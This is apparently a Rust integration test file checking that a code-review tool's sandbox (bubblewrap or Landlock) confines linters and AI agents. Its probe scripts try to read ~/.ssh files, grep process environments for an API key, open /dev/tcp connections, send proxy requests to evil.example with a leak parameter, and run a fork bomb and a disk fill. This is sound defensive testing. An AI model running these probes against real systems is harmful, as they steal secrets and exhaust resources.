//! Reviewers and linters in a sandbox: what they cannot read, write or reach, and that they are ended as all others are.
//!
//! In: programs that try. Out: what they found, as they told it. Prints `skipped: …` where programs cannot be confined.

#![cfg(target_os = "linux")]
#![expect(clippy::print_stdout, reason = "what was skipped is said")]

mod common;

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};
use std::sync::mpsc::{Receiver, channel};

use common::{
    MARKDOWN_REVIEW, configured, has_no_machine, json, nobody_runs, reviewer, run_folders, session,
    with_guest,
};
use serde_json::Value;
use test_kit::{Ran, TestSession};

/// Whether bubblewrap works here, as `doctor` says.
fn can(session: &TestSession) -> bool {
    let rows = json(&session.run(&["doctor", "--json"]));
    let row = rows.as_array().and_then(|rows| rows.iter().find(|row| row["what"] == "sandbox of scripts"));
    let row = row.expect("a row about it");
    if row["state"] == "good" {
        return true;
    }
    println!("skipped: {}", row["detail"]);
    false
}

/// Whether nobody inside makes user namespaces: bubblewrap closes them since 0.8, and `doctor` says where it is older.
fn closes_namespaces(session: &TestSession) -> bool {
    !session.run(&["doctor", "--json"]).stdout.contains("older than 0.8")
}

/// Puts a script of that name into a folder of its own, and returns the folder.
fn program(session: &TestSession, name: &str, script: &str) -> PathBuf {
    let path = session.beside(&format!("bin/{name}"), format!("#!/bin/bash\n{script}\n"));
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).expect("executable");
    path.parent().expect("a folder").to_owned()
}

fn run(session: &TestSession, folder: &Path, words: &[&str]) -> Ran {
    let mut command = session.command(words);
    command.env("PATH", format!("{}:/usr/local/bin:/usr/bin:/bin", folder.display()));
    let output = command.env("TESTY_KEY", "sk-very-secret-key").output().expect("it starts");
    Ran {
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        code: output.status.code().unwrap_or(-1),
    }
}

/// What a reviewer left in its folder of the last run.
fn raw(session: &TestSession, name: &str, file: &str) -> String {
    let folder = run_folders(session).pop().expect("a run");
    std::fs::read_to_string(folder.join("raw").join(name).join(file)).unwrap_or_default()
}

/// Tries what must not work and says what did. `$1` is a file of the user's.
const TRIES: &str = r#"
cat "$SECRET" >/dev/null 2>&1 && echo read-the-home >&2
ls "$(dirname "$SECRET")" 2>/dev/null | grep -q secret && echo listed-the-home >&2
(echo x > here.txt) 2>/dev/null && echo wrote-into-the-checkout >&2
(echo x > /usr/x) 2>/dev/null && echo wrote-into-the-system >&2
(echo x > "$(dirname "$SECRET")/x") 2>/dev/null && echo wrote-outside >&2
(echo x > /tmp/x) 2>/dev/null || echo no-temporary-folder >&2
(exec 3<>"/dev/tcp/127.0.0.1/$PORT") 2>/dev/null && echo reached-this-machine >&2
(exec 3<>/dev/tcp/1.1.1.1/80) 2>/dev/null && echo reached-the-internet >&2
[ "$(id -u)" = 0 ] && echo is-root >&2
[ "$(ls -d /proc/[0-9]* | wc -l)" -gt 12 ] && echo saw-other-processes >&2
grep -q '^CapEff:.*[1-9a-f]' /proc/self/status && echo has-capabilities >&2
mount -o remount,rw,bind / 2>/dev/null && echo remounted >&2
grep -qz very-secret /proc/*/environ 2>/dev/null && echo saw-the-key >&2
[ -S /var/run/docker.sock ] && echo saw-a-socket >&2
git log --oneline >/dev/null 2>&1 || echo no-history >&2
"#;

/// The tries, with the port of a server on this machine and a file of the user's.
fn tries(session: &TestSession, port: u16) -> String {
    let secret = session.home().join(".ssh/secret");
    std::fs::create_dir_all(secret.parent().expect("a folder")).expect("a folder");
    std::fs::write(&secret, "secret").expect("a file");
    let namespace = "unshare -U true 2>/dev/null && echo made-a-namespace >&2";
    let namespace = if closes_namespaces(session) { namespace } else { "" };
    format!("SECRET={}\nPORT={port}\n{TRIES}\n{namespace}\n", secret.display())
}

const CHECK: &str = "{\"comments\":[]}";

/// A repository with a shell script in its change.
fn with_script() -> TestSession {
    let session = session();
    session.repo.write("build.sh", "#!/bin/sh\necho $1\n").commit("A script");
    session
}

#[test]
fn a_linter_reads_no_home_reaches_nothing_and_writes_nothing() {
    let session = with_script();
    if !can(&session) {
        return;
    }
    let server = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = server.local_addr().expect("an address").port();
    let script = format!("{}\necho '{CHECK}'", tries(&session, port));
    let folder = program(&session, "shellcheck", &script);
    let report = json(&run(&session, &folder, &["--json", "--reviewer", "shellcheck"]).expect(0));
    let row = reviewer(&report, "shellcheck");
    assert_eq!(
        (row["state"].as_str(), row["receipt"]["confined_by"].as_str()),
        (Some("finished"), Some("bubblewrap"))
    );
    assert_eq!(raw(&session, "shellcheck", "stderr"), "", "{row:#}");

    // Without a sandbox the harmless ones of these tries succeed: they can.
    let harmless: Vec<&str> = script
        .lines()
        .filter(|line| {
            ["SECRET", "PORT", "cat", "(echo x > here", "(exec 3<>\"", "echo"]
                .iter()
                .any(|it| line.starts_with(it))
        })
        .collect();
    program(&session, "shellcheck", &harmless.join("\n"));
    let words = ["--json", "--again", "--reviewer", "shellcheck", "--sandbox", "off"];
    let report = json(&run(&session, &folder, &words).expect(0));
    assert_eq!(reviewer(&report, "shellcheck")["receipt"]["confined_by"], Value::Null);
    let told = raw(&session, "shellcheck", "stderr");
    for did in ["read-the-home", "wrote-into-the-checkout", "reached-this-machine"] {
        assert!(told.contains(did), "{told}");
    }
}

#[test]
fn packages_that_stand_behind_a_link_are_found_by_a_linter() {
    let session = session();
    if !can(&session) {
        return;
    }
    // As package managers lay them out: the folder is a link, and so is the program in it.
    let tool = session
        .beside("deps/eslint/bin/eslint.js", "#!/bin/bash\ncat \"$(dirname \"$0\")/../eslint/answer\"\n");
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).expect("executable");
    session.beside("deps/eslint/answer", "[]");
    session.beside("deps/.bin/none", "");
    let deps = session.repo.scratch().join("deps");
    symlink("../eslint/bin/eslint.js", deps.join(".bin/eslint")).expect("a link");
    symlink(&deps, session.repo.path().join("node_modules")).expect("a link");
    session.repo.write(".gitignore", "node_modules\n").write("eslint.config.mjs", "export default [];\n");
    session.repo.write("web/a.js", "var a;\n").commit("A script");
    session.repo.git(&["branch", "-f", "main", "HEAD"]);
    session.repo.write("web/a.js", "var a = 1;\n").commit("Another");
    configured(&session, "[tools]\nenable = [\"eslint\"]\n");
    let report = json(&session.run(&["--json", "--reviewer", "eslint"]).expect(0));
    let row = reviewer(&report, "eslint");
    assert_eq!(
        (row["state"].as_str(), row["receipt"]["confined_by"].as_str()),
        (Some("finished"), Some("bubblewrap")),
        "{row:#}"
    );
}

/// An agent that is signed in by a key, which the proxy can send.
fn agent(session: &TestSession, base: &str, script: &str) -> PathBuf {
    let text = format!(
        "title = \"Test agent\"\n[detect]\nprograms = [\"testy\"]\nversion = '^test-agent (\\S+)'\n\
         [[auth]]\nname = \"`TESTY_KEY`\"\nenv = [\"TESTY_KEY\"]\n\
         [auth.confined]\nupstream = \"{base}\"\nurl_env = \"TESTY_URL\"\napi = \"openai\"\nhosts = [\"model.example\"]\n\
         set = {{ TESTY_KEY = \"{{no_key}}\", TESTY_URL = \"{{proxy}}\" }}\n\
         [run]\nargs = []\npass = [\"TESTY_KEY\", \"TESTY_URL\"]\n[isolation]\nread_only = \"not confined\"\n"
    );
    let path = session.home().join(".config/deep-review/agents/testy.toml");
    std::fs::create_dir_all(path.parent().expect("a parent")).expect("a folder");
    std::fs::write(path, text).expect("an adapter");
    let script = format!(
        "if [ \"$1\" = --version ]; then echo test-agent 1.0; exit; fi\n\
         canary=$(sed -n 's/^ *\\(dr-canary .*\\)$/\\1/p')\n{script}\n\
         printf '%s\\n\\n## Findings\\n\\nNo issues found.\\n\\nReviewed src/store.rs.\\n\\n<!-- end of review -->\\n' \"$canary\""
    );
    program(session, "testy", &script)
}

/// A server that answers one request and tells what it was asked.
fn model() -> (String, Receiver<String>) {
    let server = TcpListener::bind("127.0.0.1:0").expect("a port");
    let base = format!("http://{}", server.local_addr().expect("an address"));
    let (sender, asked) = channel();
    std::thread::spawn(move || {
        for stream in server.incoming() {
            let mut stream = stream.expect("a connection");
            let mut buffer = [0; 4096];
            let count = stream.read(&mut buffer).expect("a request");
            drop(sender.send(String::from_utf8_lossy(&buffer[..count]).into_owned()));
            drop(
                stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nanswer"),
            );
        }
    });
    (base, asked)
}

/// Asks the model as an agent does, and tries to reach others.
const ASKS: &str = r#"
ask() { exec 3<>"/dev/tcp/127.0.0.1/3128"; printf "$1" >&3; cat <&3; exec 3>&-; }
path=/${TESTY_URL#http://*/}
ask "POST $path/v1/chat HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer $TESTY_KEY\r\nContent-Length: 2\r\n\r\nhi" >&2
ask "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n" >&2
ask "CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: x\r\n\r\n" >&2
ask "GET http://evil.example/?leak=1 HTTP/1.1\r\nHost: evil.example\r\n\r\n" >&2
ask "POST /guessed/v1/chat HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n" >&2
env >&2
"#;

#[test]
fn an_agent_reaches_its_model_through_the_proxy_and_never_has_the_key() {
    let session = session();
    if can(&session) {
        reaches_its_model_and_nothing_else(&session, "require", "bubblewrap");
    }
}

#[test]
fn an_agent_in_a_machine_reaches_its_model_through_the_same_proxy() {
    let session = session();
    reaches_its_model_and_nothing_else(&session, "machine", "machine");
    nobody_runs(session.repo.scratch().to_str().expect("UTF-8"));
}

fn reaches_its_model_and_nothing_else(session: &TestSession, sandbox: &str, by: &str) {
    let (base, asked) = model();
    let server = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = server.local_addr().expect("an address").port();
    let folder = agent(session, "https://api.vendor.example", &format!("{}\n{ASKS}", tries(session, port)));
    let mut command = with_guest(session, &["--json", "--reviewer", "testy", "--sandbox", sandbox]);
    command.env("PATH", format!("{}:/usr/bin:/bin", folder.display()));
    let output =
        command.env("TESTY_KEY", "sk-very-secret-key").env("TESTY_URL", &base).output().expect("it starts");
    let said = String::from_utf8_lossy(&output.stderr);
    if output.status.code() == Some(6) && has_no_machine(&said) {
        println!("skipped: {}", said.trim());
        return;
    }
    let report: Value =
        serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{error}: {said}"));
    let row = reviewer(&report, "testy");
    let told = raw(session, "testy", "stderr");
    assert_eq!(row["state"], "finished", "{row:#}\n{told}");
    assert_eq!(row["receipt"]["confined_by"], by);
    let asked = asked.recv().expect("the model was asked");
    assert!(asked.starts_with("POST /v1/chat HTTP/1.1\r\n"), "{asked}");
    assert!(asked.to_lowercase().contains("authorization: bearer sk-very-secret-key"), "{asked}");
    assert!(told.contains("answer"), "{told}");
    assert!(!told.contains("very-secret"), "{told}");
    for did in [
        "read-the-home",
        "wrote-",
        "reached-",
        "is-root",
        "saw-",
        "has-capabilities",
        "remounted",
        "made-a-namespace",
        "no-history",
    ] {
        assert!(!told.contains(did), "{did}: {told}");
    }
    let notes = row["notes"].to_string();
    for refused in ["evil.example:443", "127.0.0.1:22", "http://evil.example/"] {
        assert!(notes.contains(&format!("it tried to reach `{refused}`")), "{refused}: {notes}");
    }
    let log = raw(session, "testy", "network.jsonl");
    let lines: Vec<Value> = log.lines().map(|line| serde_json::from_str(line).expect("an entry")).collect();
    assert_eq!(lines.len(), 5, "{log}");
    assert_eq!((lines[0]["status"].as_u64(), lines[0]["sent"].as_u64()), (Some(200), Some(2)), "{log}");
    assert!(lines[1..].iter().all(|line| line["refused"].is_string()), "{log}");
    assert!(!log.contains("very-secret") && !log.contains("leak"), "{log}");
}

#[test]
fn agents_are_confined_where_somebody_else_had_a_hand_in_the_change() {
    let session = session();
    if !can(&session) {
        return;
    }
    let folder = agent(&session, "https://api.vendor.example", "");
    let by = |words: &[&str]| {
        let report = json(
            &run(&session, &folder, &[&["--json", "--again", "--reviewer", "testy"], words].concat())
                .expect(0),
        );
        (reviewer(&report, "testy")["receipt"]["confined_by"].clone(), report)
    };
    let (confined, report) = by(&[]);
    assert_eq!((confined, report["target"]["trust"]["level"].as_str()), (Value::Null, Some("mine")));
    let (confined, report) = by(&["--trust", "stranger"]);
    assert_eq!(
        (confined.as_str(), report["target"]["trust"]["level"].as_str()),
        (Some("bubblewrap"), Some("stranger"))
    );
    // Known people: also confined.
    session.repo.checkout("main").write("x", "x\n");
    session.repo.git(&["add", "-A"]);
    session.repo.git(&["commit", "-q", "--author=Bob <bob@example.org>", "-m", "Bob was here"]);
    session.repo.git(&["checkout", "-q", "-b", "bobs"]);
    session.repo.write("x", "y\n").git(&["add", "-A"]);
    session.repo.git(&["commit", "-q", "--author=Bob <bob@example.org>", "-m", "Bob again"]);
    let (confined, report) = by(&[]);
    assert_eq!(
        (confined.as_str(), report["target"]["trust"]["level"].as_str()),
        (Some("bubblewrap"), Some("repository"))
    );
    let notes = report["target"]["notes"].to_string();
    assert!(notes.contains("a change of your repository"), "{notes}");
    // Only upwards.
    let ran = run(&session, &folder, &["--trust", "mine", "--reviewer", "testy"]).expect(6);
    assert!(ran.stderr.contains("less cautious"), "{}", ran.stderr);
}

#[test]
fn what_cannot_be_confined_is_refused_where_that_is_required_and_told_where_not() {
    let session = session();
    if !can(&session) {
        return;
    }
    let folder = agent(&session, "https://api.vendor.example", "");
    let path = session.home().join(".config/deep-review/agents/testy.toml");
    let text = std::fs::read_to_string(&path).expect("an adapter");
    let kept: Vec<&str> = text
        .lines()
        .filter(|line| {
            !["[auth.confined]", "upstream", "set =", "url_env", "api", "hosts"]
                .iter()
                .any(|it| line.starts_with(it))
        })
        .collect();
    std::fs::write(&path, kept.join("\n")).expect("an adapter");
    let ran = run(&session, &folder, &["--reviewer", "testy", "--sandbox", "require"]).expect(6);
    assert!(
        ran.stderr.contains("testy: what it needs when it is signed in by `TESTY_KEY` is not known"),
        "{}",
        ran.stderr
    );
    let report =
        json(&run(&session, &folder, &["--json", "--reviewer", "testy", "--trust", "stranger"]).expect(0));
    let notes = reviewer(&report, "testy")["notes"].to_string();
    assert!(notes.contains("it ran without a sandbox: what it needs"), "{notes}");
    // The user can tell what is needed.
    configured(&session, "[reviewers.testy]\nhosts = [\"model.example\"]");
    let report = json(
        &run(&session, &folder, &["--json", "--again", "--reviewer", "testy", "--sandbox", "require"])
            .expect(0),
    );
    assert_eq!(reviewer(&report, "testy")["receipt"]["confined_by"], "bubblewrap");
}

/// A command of the user's, confined.
fn command(session: &TestSession, script: &str, keys: &str) {
    let file = session.beside("scripts/command.sh", script).display().to_string();
    let table = format!(
        "[reviewers.ada]\ncommand = [\"/bin/bash\", {file:?}, \"{{output_file}}\"]\nshow = [\"~/shown\"]\nretries = 0\n{keys}\n"
    );
    configured(session, &table);
    std::fs::create_dir_all(session.home().join("shown")).expect("a folder");
    std::fs::write(session.home().join("shown/file"), "shown\n").expect("a file");
}

#[test]
fn a_command_sees_what_its_table_shows_and_answers_in_its_file() {
    let session = session();
    if !can(&session) {
        return;
    }
    let review = format!("cat ~/shown/file >&2\nls ~ >&2\ncat > \"$1\" <<'END'\n{MARKDOWN_REVIEW}\nEND\n");
    command(&session, &review, "output = \"file\"");
    let report = json(&session.run(&["--json", "--reviewer", "ada", "--trust", "stranger"]).expect(0));
    let row = reviewer(&report, "ada");
    assert_eq!(
        (row["state"].as_str(), row["receipt"]["confined_by"].as_str()),
        (Some("finished"), Some("bubblewrap")),
        "{row:#}"
    );
    assert_eq!(report["findings"].as_array().map(Vec::len), Some(1));
    assert_eq!(raw(&session, "ada", "stderr"), "shown\nshown\n");
}

#[test]
fn an_interrupt_reaches_whoever_is_inside_and_nothing_is_left() {
    let session = session();
    if !can(&session) {
        return;
    }
    let script = "trap 'echo interrupted-politely >&2; exit 3' INT\n\
                  (trap '' INT TERM HUP; setsid bash -c 'while :; do sleep 0.0712345; done') &\n\
                  while :; do sleep 0.05; done\n";
    command(&session, script, "timeout = \"1s\"");
    let report = json(&session.run(&["--json", "--reviewer", "ada", "--trust", "stranger"]).expect(3));
    let row = reviewer(&report, "ada");
    assert_eq!(
        (row["ending"].as_str(), row["tree_gone"].as_bool()),
        (Some("timed-out"), Some(true)),
        "{row:#}"
    );
    assert_eq!(raw(&session, "ada", "stderr"), "interrupted-politely\n");
    nobody_runs("sleep\u{0}0.0712345");
}

#[test]
fn whoever_is_inside_and_heeds_nothing_is_ended_all_the_same() {
    let session = session();
    if !can(&session) {
        return;
    }
    command(&session, "trap '' INT TERM HUP\nwhile :; do sleep 0.0612345; done\n", "timeout = \"1s\"");
    let report = json(&session.run(&["--json", "--reviewer", "ada", "--trust", "stranger"]).expect(3));
    let row = reviewer(&report, "ada");
    assert_eq!(
        (row["ending"].as_str(), row["tree_gone"].as_bool()),
        (Some("timed-out"), Some(true)),
        "{row:#}"
    );
    nobody_runs("sleep\u{0}0.0612345");
}

#[test]
fn a_confined_reviewer_does_not_outlive_a_killed_supervisor() {
    let session = session();
    if !can(&session) {
        return;
    }
    command(&session, "while :; do sleep 0.0512345; echo . >&2; done\n", "");
    let mut working = common::Working::start(&session, &["--reviewer", "ada", "--trust", "stranger"]);
    working.wait_for(&session, &["reviewer-started"]);
    let begun = std::time::Instant::now();
    while !runs("0.0512345") && begun.elapsed().as_secs() < 20 {
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    working.kill();
    nobody_runs("sleep\u{0}0.0512345");
    // What it left on disk goes with the next run, or when it is asked for.
    let checkouts = session.home().join(".cache/deep-review/checkouts");
    let left = || std::fs::read_dir(&checkouts).expect("a folder").count();
    assert_eq!(left(), 1);
    let ran = session.run(&["gc"]).expect(0);
    assert!(ran.stderr.contains("an earlier run died while"), "{}", ran.stderr);
    assert_eq!(left(), 0);
}

fn runs(word: &str) -> bool {
    let entries = std::fs::read_dir("/proc").expect("a view of processes");
    entries.filter_map(Result::ok).any(|entry| {
        std::fs::read(entry.path().join("cmdline"))
            .is_ok_and(|line| String::from_utf8_lossy(&line).contains(word))
    })
}

#[test]
fn a_fork_bomb_and_a_full_disk_stay_inside() {
    let session = session();
    if !can(&session) {
        return;
    }
    let script = "head -c 2G /dev/zero > /tmp/big 2>/dev/null && echo filled-without-end >&2\n\
                  bomb() { bomb | bomb & }; (bomb) 2>/dev/null\nsleep 1\nexit 3\n";
    command(&session, script, "timeout = \"20s\"");
    let report = json(&session.run(&["--json", "--reviewer", "ada", "--trust", "stranger"]).expect(3));
    let row = reviewer(&report, "ada");
    assert_eq!(row["tree_gone"], true, "{row:#}");
    assert!(!raw(&session, "ada", "stderr").contains("filled"), "{row:#}");
}

#[test]
fn where_bubblewrap_is_missing_a_wall_keeps_files_and_network() {
    let session = with_script();
    // Everything the run needs but `bwrap`.
    let tools = session.repo.scratch().join("tools");
    std::fs::create_dir_all(&tools).expect("a folder");
    for name in ["git", "cat", "ls", "grep", "dirname", "id", "wc", "mount", "bash", "sh", "rm", "env"] {
        let found = ["/usr/bin", "/bin"]
            .map(|folder| Path::new(folder).join(name))
            .into_iter()
            .find(|path| path.exists());
        if let Some(found) = found {
            symlink(found, tools.join(name)).expect("a link");
        }
    }
    let server = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = server.local_addr().expect("an address").port();
    let script = format!("{}\necho '{CHECK}'", tries(&session, port));
    let folder = program(&session, "shellcheck", &script);
    let search = format!("{}:{}", folder.display(), tools.display());
    let call = |words: &[&str]| {
        let output = session.command(words).env("PATH", &search).output().expect("it starts");
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let rows: Value = serde_json::from_str(&call(&["doctor", "--json"])).expect("rows");
    let row =
        rows.as_array().and_then(|rows| rows.iter().find(|row| row["what"] == "sandbox")).expect("a row");
    if !row["detail"].as_str().is_some_and(|detail| detail.starts_with("Landlock")) {
        println!("skipped: {}", row["detail"]);
        return;
    }
    let report: Value =
        serde_json::from_str(&call(&["--json", "--reviewer", "shellcheck", "--sandbox", "require"]))
            .expect("a report");
    let row = reviewer(&report, "shellcheck");
    assert_eq!(
        (row["state"].as_str(), row["receipt"]["confined_by"].as_str()),
        (Some("finished"), Some("landlock")),
        "{row:#}"
    );
    let told = raw(&session, "shellcheck", "stderr");
    for did in
        ["read-the-home", "listed-the-home", "wrote-", "reached-", "remounted", "saw-the-key", "no-history"]
    {
        assert!(!told.contains(did), "{did}: {told}");
    }
}

/// An agent whose own sandbox is tried first: `probe` is what the trial does.
fn nesting(session: &TestSession, probe: &str, instead: &str) -> PathBuf {
    let script = format!("if [ \"$1\" = probe ]; then {probe}; fi\necho \"called with $*\" >&2");
    let folder = agent(session, "https://api.vendor.example", &script);
    let path = session.home().join(".config/deep-review/agents/testy.toml");
    let text =
        std::fs::read_to_string(&path).expect("an adapter").replace("args = []", "args = [\"--inner\"]");
    std::fs::write(&path, format!("{text}[confined]\nprobe = [\"probe\"]\n{instead}\n")).expect("an adapter");
    folder
}

#[test]
fn an_inner_sandbox_is_tried_before_the_agent_is_asked() {
    let session = session();
    if !can(&session) {
        return;
    }
    let asked = |folder: &Path, code: i32| {
        let words = ["--json", "--again", "--reviewer", "testy", "--sandbox", "require"];
        let report = json(&run(&session, folder, &words).expect(code));
        (reviewer(&report, "testy").clone(), raw(&session, "testy", "stderr"))
    };
    let instead = "instead = { \"--inner\" = \"--none\" }";
    let (row, told) = asked(&nesting(&session, "exit 0", instead), 0);
    assert!(told.contains("called with --inner\n"), "{row:#}\n{told}");
    let (row, told) = asked(&nesting(&session, "echo no-namespaces >&2; exit 1", instead), 0);
    assert!(told.contains("called with --none\n"), "{row:#}\n{told}");
    assert!(
        row["notes"]
            .to_string()
            .contains("does not work inside ours, which is the only one then: no-namespaces"),
        "{row:#}"
    );
    let (row, told) = asked(&nesting(&session, "exit 1", ""), 3);
    assert_eq!(
        (row["ending"].as_str(), row["failure"]["class"].as_str()),
        (Some("not-started"), Some("sandbox")),
        "{row:#}"
    );
    assert_eq!(told, "", "it was never run blind");
}

#[test]
fn a_login_that_is_over_inside_says_how_to_renew_it() {
    let session = session();
    if !can(&session) {
        return;
    }
    let folder = agent(
        &session,
        "",
        "grep -q token ~/.testy/login || exit 9; echo 'the login has expired' >&2; exit 1",
    );
    let text = "title = \"Test agent\"\n[detect]\nprograms = [\"testy\"]\nversion = '^test-agent (\\S+)'\n\
                [[auth]]\nname = \"a login\"\nfile = [\"~/.testy/login\"]\n\
                [auth.confined]\nhosts = [\"model.example\"]\nat_home = \".testy/login\"\n\
                [run]\nargs = []\n[isolation]\nread_only = \"not confined\"\n\
                [[failures]]\nclass = \"auth\"\ntext = 'login has expired'\n";
    std::fs::write(session.home().join(".config/deep-review/agents/testy.toml"), text).expect("an adapter");
    std::fs::create_dir_all(session.home().join(".testy")).expect("a folder");
    std::fs::write(session.home().join(".testy/login"), "token").expect("a login");
    let asked = |sandbox: &str| {
        let words = ["--json", "--again", "--reviewer", "testy", "--sandbox", sandbox];
        let report = json(&run(&session, &folder, &words).expect(3));
        reviewer(&report, "testy")["failure"].clone()
    };
    let failure = asked("require");
    assert_eq!(failure["class"], "auth", "{failure:#}");
    let message = failure["message"].as_str().expect("a sentence");
    assert!(message.contains("not renewed in the sandbox: call `testy` once yourself"), "{message}");
    // Outside its own words are enough.
    assert!(!asked("off")["message"].to_string().contains("sandbox"));
}

#[test]
fn what_is_only_tried_is_confined_as_it_is_when_it_reviews() {
    let session = with_script();
    if !can(&session) {
        return;
    }
    // A linter is asked for its version, and reads no home for that.
    let secret = session.home().join("secret");
    std::fs::write(&secret, "7.7.7\n").expect("a file");
    let folder = program(
        &session,
        "shellcheck",
        &format!("cat {} 2>/dev/null; echo 'version: 0.9.9'", secret.display()),
    );
    let tried = |words: &[&str]| json(&run(&session, &folder, words).expect(0));
    assert_eq!(tried(&["reviewers", "test", "shellcheck", "--json"])[0]["version"], "0.9.9");
    let configuration = session.repo.path().join(".git/deep-review/config.toml");
    let choose = |choice: &str| {
        std::fs::create_dir_all(configuration.parent().expect("a parent")).expect("a folder");
        std::fs::write(&configuration, format!("[verify]\nsandbox = \"{choice}\"\n")).expect("written");
    };
    choose("off");
    assert_eq!(tried(&["reviewers", "test", "shellcheck", "--json"])[0]["version"], "7.7.7");
    // An agent is asked as a run of the user's own change asks it: in a sandbox where one is required.
    let folder = agent(&session, "https://api.vendor.example", "id -u >&2; pwd");
    let tried = |choice: &str| {
        choose(choice);
        json(&run(&session, &folder, &["reviewers", "test", "testy", "--json"]))[0]["confined_by"].clone()
    };
    assert_eq!((tried("auto"), tried("require")), (Value::Null, "bubblewrap".into()));
}

#[test]
fn neither_the_branch_nor_its_base_decides_how_its_reviewers_are_confined() {
    let session = session();
    if !can(&session) {
        return;
    }
    let evil = "[verify]\nsandbox = \"off\"\n[reviewers.shellcheck]\nshow = [\"/\"]\nhosts = [\"evil.example\"]\n[tools]\nenable = [\"*\"]\n";
    session.repo.checkout("main").write("deep-review.toml", evil).commit("A configuration of the base");
    session.repo.git(&["checkout", "-q", "-b", "hostile"]);
    session.repo.write(
        "deep-review.toml",
        format!("{evil}[reviewers.evil]\ncommand = [\"touch\", \"/tmp/evil-was-here\"]\n"),
    );
    session.repo.write("build.sh", "#!/bin/sh\necho $1\n").commit("A script");
    let tries = tries(&session, 9);
    let folder =
        program(&session, "shellcheck", &format!("{tries}\nenv | grep -i _proxy >&2\necho '{CHECK}'"));
    let ran = run(&session, &folder, &["--json", "--reviewer", "shellcheck"]).expect(0);
    for key in ["verify.sandbox", "reviewers.shellcheck.show", "reviewers.shellcheck.hosts"] {
        assert!(ran.stderr.contains(&format!("`{key}` in deep-review.toml")), "{key}: {}", ran.stderr);
    }
    let report = json(&ran);
    assert_eq!(reviewer(&report, "shellcheck")["receipt"]["confined_by"], "bubblewrap");
    assert_eq!(raw(&session, "shellcheck", "stderr"), "");
    assert!(!Path::new("/tmp/evil-was-here").exists());
}

#[test]
fn in_ci_the_event_decides_whose_change_it_is() {
    let session = session();
    let event = |head: &str| {
        let text = format!(
            r#"{{"pull_request":{{"head":{{"repo":{{"full_name":"{head}"}}}},"base":{{"repo":{{"full_name":"o/r"}}}}}}}}"#
        );
        session.beside(&format!("event-{}.json", head.replace('/', "-")), text)
    };
    let level = |path: &Path| {
        let mut command = session.command(&["--json", "--again", "--reviewer", "builtin"]);
        command
            .env("GITHUB_ACTIONS", "true")
            .env("GITHUB_EVENT_NAME", "pull_request")
            .env("GITHUB_EVENT_PATH", path);
        let output = command.output().expect("it starts");
        let report: Value = serde_json::from_slice(&output.stdout).expect("a report");
        report["target"]["trust"]["level"].as_str().unwrap_or_default().to_owned()
    };
    assert_eq!(level(&event("o/r")), "repository");
    assert_eq!(level(&event("eve/r")), "stranger");
    assert_eq!(level(Path::new("/nowhere")), "stranger");
}

#[test]
fn a_suspended_supervisor_suspends_whoever_is_inside() {
    let session = session();
    if !can(&session) {
        return;
    }
    let script = "count=0\nwhile :; do count=$((count + 1)); echo $count; sleep 0.05; done\n";
    command(&session, script, "timeout = \"60s\"");
    let working = common::Working::start(&session, &["--reviewer", "ada", "--trust", "stranger"]);
    // What it has written so far, wherever it is spooled.
    let spooled = || {
        let attempts = run_folders(&session).pop().map(|run| run.join("attempts"));
        let entries = attempts.and_then(|folder| std::fs::read_dir(folder).ok()).into_iter().flatten();
        let files = entries.filter_map(Result::ok).map(|entry| entry.path().join("stdout"));
        files.filter_map(|file| std::fs::metadata(file).ok()).map(|file| file.len()).sum::<u64>()
    };
    let wait_until = |what: &dyn Fn() -> bool| {
        let begun = std::time::Instant::now();
        while !what() {
            assert!(begun.elapsed().as_secs() < 40, "it never happened");
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    };
    wait_until(&|| spooled() > 0);
    working.signal(rustix::process::Signal::STOP);
    // Suspended: for as long as it usually writes twenty times, nothing is added.
    wait_until(&|| {
        let before = spooled();
        std::thread::sleep(std::time::Duration::from_secs(1));
        spooled() == before
    });
    let before = spooled();
    working.signal(rustix::process::Signal::CONT);
    wait_until(&|| spooled() > before);
    working.signal(rustix::process::Signal::TERM);
    let ran = working.end();
    assert_eq!(ran.code, 3, "{}", ran.stderr);
}
